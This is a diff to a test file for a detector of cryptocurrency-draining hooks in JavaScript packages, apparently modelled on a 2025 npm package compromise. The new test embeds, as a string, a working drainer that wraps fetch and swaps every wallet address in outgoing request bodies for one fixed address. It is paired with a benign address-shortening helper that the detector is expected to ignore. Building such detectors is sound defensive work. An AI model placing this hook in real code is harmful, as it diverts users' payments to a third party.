@@ -1543,6 +1543,12 @@ describe('crypto-wallet-hook: the chalk and debug drainer of September 2025', ()
     expect(hook('index.js', ['const p = new Proxy(window.ethereum, handler);'])).toBe('medium');
     expect(hook('lib/net.js', ['XMLHttpRequest.prototype.open = function (m, u) { return _open.apply(this, arguments); };', ...ADDRESSES])).toBe('high');
   });
+  it('a network hook that rewrites text by a wallet address pattern is high even with one address written out', () => {
+    const drainer = ["const _f = globalThis.fetch; globalThis.fetch = async (u, o) => { if (o && o.body) o.body = String(o.body).replace(/0x[a-fA-F0-9]{40}/g, '0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976'); return _f(u, o); };"];
+    expect(hook('src/index.js', drainer)).toBe('high');
+    // An address pattern used to shorten addresses for display, without a hook, is a wallet UI.
+    expect(hook('src/ui/address.ts', ["export const short = (text: string) => text.replace(/0x[a-fA-F0-9]{40}/g, (a) => `${a.slice(0, 6)}…${a.slice(-4)}`);"])).toBeUndefined();
+  });
   it("instrumentation that wraps fetch, a dApp's contract addresses, a provider defined, and test mocks are not reported", () => {
     expect(hook('src/tracing/fetch.ts', ['const original = window.fetch;', 'window.fetch = async (...args) => { const span = start(); try { return await original(...args); } finally { span.end(); } };'])).toBeUndefined();
     expect(hook('src/contracts.ts', ["export const USDC = '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48';", "export const WETH = '0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2';"])).toBeUndefined();
